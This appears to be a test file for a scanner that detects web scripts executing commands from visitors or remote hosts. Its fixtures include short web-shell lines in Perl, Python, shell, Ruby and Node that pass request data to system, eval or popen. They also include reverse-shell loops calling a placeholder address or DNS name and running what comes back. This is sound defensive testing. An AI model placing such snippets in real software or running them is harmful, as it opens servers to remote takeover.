import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scriptCommands } from '../../../src/detectors/script-commands.ts';
import { cpuMs } from '../../support/cpu-ms.ts';
import { lookAt } from '../../support/look-at.ts';

// Put together from pieces, so that no file of this repository holds one.
const RUN = ['ev', 'al'].join('');
const SHELL = ['sys', 'tem'].join('');
const QUERY = ['QUERY', 'STRING'].join('_');
const FROM_REQUEST = ['script.request-to-command'];
const FROM_MACHINE = ['script.remote-to-command'];

function rules(name: string, content: string): string[] {
  return lookAt(scriptCommands, `/home/bob/public_html/${name}`, content).map(({ rule }) => rule);
}

describe('scripts that run what a visitor sends', () => {
  it.each([
    ['Perl, an environment variable', 'a.pl', `#!/usr/bin/perl\nprint "a";\n${SHELL}($ENV{'${QUERY}'});\n`],
    ['Perl, a field', 'a.cgi', `#!/usr/bin/perl\nmy $c = $q->param('c');\nprint \`$c 2>&1\`;\n`],
    ['Perl, a cookie', 'a.pl', 'my %c = map { split /=/, $_, 2 } split /; /, $ENV{HTTP_COOKIE}; my $r = qx{$c{k}};\n'],
    [
      'Perl, what was matched',
      'a.cgi',
      'my $q = $ENV{HTTP_COOKIE};\nif ($q =~ /sid=([^;]+)/) { open(F, decode_base64($1) . "|"); }\n',
    ],
    ['Perl, a pipe', 'a.pl', `my $f = $ENV{HTTP_COOKIE};\nopen(F, "$f |");\n`],
    ['Perl, through a function', 'a.pl', `sub run { my $c = shift; ${RUN} $c; }\nrun($ENV{HTTP_X_I});\n`],
    ['Python, a form', 'a.py', 'import cgi, os\nform = cgi.FieldStorage()\nc = form["c"].value\nos.popen(c)\n'],
    ['Python, a framework', 'a.py', 'def go():\n    c = request.args.get("c")\n    subprocess.run(c, shell=True)\n'],
    [
      'Python, a method above',
      'a.wsgi',
      'def run(c):\n    exec(c)\ndef application(environ, start):\n    run(environ["wsgi.input"].read())\n',
    ],
    ['Python, arguments in rows', 'a.py', 'c = request.form["c"]\nsubprocess.run(\n    c,\n    shell=True,\n)\n'],
    ['a shell', 'a.sh', `#!/bin/sh\necho "Content-type: text/plain"\n${RUN} "$${QUERY}"\n`],
    ['a shell, its input', 'a.cgi', '#!/bin/bash\necho "Content-type: text/html"\nread line\nsh -c "$line"\n'],
    ['a shell, into another', 'a.sh', `echo "Content-type: text/plain"\nprintf %s "$${QUERY}" | sh\n`],
    ['Ruby', 'a.rb', `c = ENV['${QUERY}']\nIO.popen(c)\n`],
    ['Ruby, an expression', 'a.rb', "puts `#{cgi['c']}`\n"],
    [
      'Node',
      'a.js',
      "const { execSync } = require('child_process');\nrequire('http').createServer((q, s) => s.end(execSync(q.url.slice(1))));\n",
    ],
    [
      'Node, a framework',
      'a.mjs',
      "import cp from 'child_process';\napp.get('/x', (request, response) => {\n  cp.exec(request.query.c, done);\n});\n",
    ],
    ['behind many other lines', 'a.pl', `${'my $n = 1;\n'.repeat(50_000)}${SHELL}($ENV{'${QUERY}'});\n`],
    ['by its interpreter alone', '.cache', `#!/usr/bin/env python3\nimport os\nos.${SHELL}(os.environ['${QUERY}'])\n`],
  ])('%s', (_, name, content) => {
    expect(rules(name, content)).toEqual(FROM_REQUEST);
  });

  it('says the way and its lines', () => {
    const [told] = lookAt(scriptCommands, '/home/bob/a.rb', `# inert\nc = ENV['${QUERY}']\n\nIO.popen(c)\n`);
    expect(told).toMatchObject({ severity: 'critical', line: 4, excerpt: `ENV['${QUERY} (line 2) → popen (line 4)` });
  });
});

describe('scripts that run what another machine sends', () => {
  it.each([
    ['Perl', 'a.pl', "$s = IO::Socket::INET->new('192.0.2.4:44');\nwhile (<$s>) { print $s `$_ 2>&1`; }\n"],
    ['Python', 'a.py', 'while 1:\n  d = c.recv(1024).decode()\n  subprocess.run(d, shell=True)\n'],
    ['Ruby', 'a.rb', "s = TCPSocket.new('192.0.2.4', 44)\nwhile l = s.gets\n  IO.popen(l, 'r')\nend\n"],
    [
      'Node',
      'a.js',
      "const { exec } = require('child_process');\nconst s = require('net').connect(44, '192.0.2.4');\ns.on('data', (d) => exec(d));\n",
    ],
    ['a shell, the name server', 'a.sh', `c=$(dig +short TXT inert.example.test)\n${RUN} "$c"\n`],
  ])('%s', (_, name, content) => {
    expect(rules(name, content)).toEqual(FROM_MACHINE);
  });
});

describe('scripts of honest people are left alone', () => {
  it.each([
    ['a number', 'a.pl', 'my $n = int($q->param(\'n\'));\nsystem("head -$n log");\n'],
    ['what was checked', 'a.pl', "my $f = $q->param('f');\ndie unless $f =~ /^[\\w-]+$/;\nprint `cat logs/$f`;\n"],
    ['what was cleaned', 'a.pl', "my $f = $q->param('f');\n$f =~ s/[^\\w]//g;\nprint `cat logs/$f`;\n"],
    [
      'a word that was matched',
      'a.pl',
      'my $q = $ENV{QUERY_STRING};\nif ($q =~ /page=([\\w-]+)/) { print `cat $1.txt`; }\n',
    ],
    ['a program that is named', 'a.pl', "my $f = $q->param('f');\nsystem('git', 'show', $f);\n"],
    ['a block that may fail', 'a.pl', "eval { $q->param('a') };\n"],
    ['a constant', 'a.pl', "eval 'sub x { CGI::param(@_) }';\n"],
    ['a message with backticks', 'a.pl', 'my $f = $q->param(\'f\');\ndie "no `$f`";\n'],
    ['arguments in a list', 'a.py', "f = request.args['f']\nsubprocess.run(['convert', f, 'x.png'])\n"],
    ['a word in quotation marks', 'a.py', "f = s.recv(9)\ncommand = 'ls f'\nos.system(command)\n"],
    ['another function’s variable', 'a.py', 'def a():\n  c = s.recv(9)\ndef b(c):\n  os.system(c)\n'],
    ['what was set anew', 'a.py', "c = request.args['c']\nc = 'ls'\nos.system(c)\n"],
    ['the environment of the program', 'a.py', 'e = request.headers\nsubprocess.Popen("ls", env=e)\n'],
    ['a comment', 'a.py', "# os.system(request.args['c'])\nx = request.args['c']\nprint('exec')\n"],
    ['a script for the console', 'a.sh', 'read answer\neval "$answer"\n'],
    [
      'the answer of a program',
      'a.js',
      "const cp = require('child_process');\nchild.stdout.on('data', (d) => exec(d));\n",
    ],
    ['an expression', 'a.js', "require('child_process');\nconst m = /a/.exec(req.url);\n"],
    ['a script of a page', 'a.js', 'var w = new WebSocket(u); w.onmessage = (m) => exec(m.data);\n'],
  ])('%s', (_, name, content) => {
    expect(rules(name, content)).toEqual([]);
  });
});

describe('following a script', () => {
  const NAMES = ['a.pl', 'a.py', 'a.sh', 'a.rb', 'a.js'];
  const BEGINS = `#\n$ENV{${QUERY}}; s.recv(1) ENV['${QUERY}'] child_process req.url echo "Content-type: a" $${QUERY} system exec ${RUN}\n`;

  it('never throws', () => {
    const word = fc.constantFrom(
      '$a',
      '=',
      '(',
      ')',
      '`',
      '|',
      ';',
      '\n',
      "'",
      '"',
      ' ',
      'exec',
      'def f(',
      'sub f',
      '{|x|',
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...NAMES),
        fc.array(fc.oneof(word, fc.string()), { maxLength: 60 }),
        (name, words) => {
          expect(Array.isArray(rules(name, BEGINS + words.join('')))).toBe(true);
        },
      ),
    );
  });

  it.each(['`', 'open(F,', "'", 'eval ', '{|', 'f a=b,'])('comes to its end on a megabyte of %j', async (unit) => {
    for (const rows of [3990, 60]) {
      const row = `${unit.repeat(rows / unit.length)}\n`;
      const content = BEGINS + row.repeat(1_000_000 / row.length);
      for (const name of NAMES) expect(await cpuMs(() => rules(name, content))).toBeLessThan(8000);
    }
  });
});
